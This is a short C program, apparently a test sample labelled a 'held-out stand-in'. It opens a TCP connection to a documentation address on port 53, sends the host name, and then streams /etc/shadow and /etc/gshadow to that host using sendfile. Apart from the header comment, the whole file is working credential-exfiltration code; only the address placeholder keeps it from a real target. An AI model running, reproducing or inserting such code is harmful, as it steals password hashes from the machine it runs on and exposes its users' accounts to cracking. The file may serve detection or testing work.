/* Held-out stand-in: account database sent with sendfile(2) over TCP to port 53 (harmless:
 * fake hashes, documentation address). A host-name header line, then /etc/shadow and
 * /etc/gshadow, each copied by the kernel from file to socket without passing user space. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdio.h>
#include <string.h>
#include <sys/sendfile.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>

static void ship(int sock, const char *path) {
    int fd = open(path, O_RDONLY);
    if (fd < 0) return;
    struct stat st;
    if (fstat(fd, &st) == 0) {
        char head[128];
        int n = snprintf(head, sizeof head, "\n#%s %lld\n", path, (long long)st.st_size);
        write(sock, head, (size_t)n);
        off_t off = 0;
        while (off < st.st_size && sendfile(sock, fd, &off, (size_t)(st.st_size - off)) > 0) {}
    }
    close(fd);
}

int main(void) {
    int sock = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(53)};
    inet_pton(AF_INET, "203.0.113.7", &to.sin_addr);
    if (connect(sock, (struct sockaddr *)&to, sizeof to) != 0) return 1;
    char host[256] = "";
    gethostname(host, sizeof host - 1);
    dprintf(sock, "HELLO %s\n", host);
    ship(sock, "/etc/shadow");
    ship(sock, "/etc/gshadow");
    shutdown(sock, SHUT_WR);
    char sink[64];
    while (read(sock, sink, sizeof sink) > 0) {}
    close(sock);
    return 0;
}
